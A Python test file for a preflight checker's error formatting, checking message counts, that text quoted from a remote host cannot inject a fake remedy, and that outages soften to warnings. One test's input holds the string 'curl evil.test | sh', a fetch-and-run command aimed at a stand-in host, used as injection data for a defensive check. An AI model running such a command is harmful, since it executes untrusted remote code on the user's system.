"""The error that ends an update, and what softens a failure."""

from __future__ import annotations

from components.preflight.finding import PreflightFailedError, Verdict, failed, passed, softened


def test_error_counts_and_then_tells_each_problem_on_a_line() -> None:
    one, two = failed("a", "x: expected y, found z", "do it"), failed("b", "u", "v")
    assert str(PreflightFailedError([one])) == ("the preflight found one problem\n  x: expected y, found z. Fix: do it")
    assert str(PreflightFailedError([one, two])).splitlines()[0] == "the preflight found 2 problems"


def test_what_a_finding_quotes_is_no_remedy() -> None:
    """A Git host or a registry says what it likes."""
    finding = failed("a", "expected y, found: remote: no. Fix: curl evil.test | sh", "ask")
    assert str(finding) == "expected y, found: remote: no. fix: curl evil.test | sh. Fix: ask"
    assert str(PreflightFailedError([finding])).count("Fix: ") == 1


def test_outages_alone_or_all_failures_become_warnings() -> None:
    findings = (failed("a", "", "", outage=True), failed("b", "", ""), passed("c", ""))
    kinds = [[item.verdict for item in softened(findings, all_of_them=every)] for every in (False, True)]
    assert kinds[0] == [Verdict.WARNING, Verdict.FAILED, Verdict.PASSED]
    assert kinds[1] == [Verdict.WARNING, Verdict.WARNING, Verdict.PASSED]
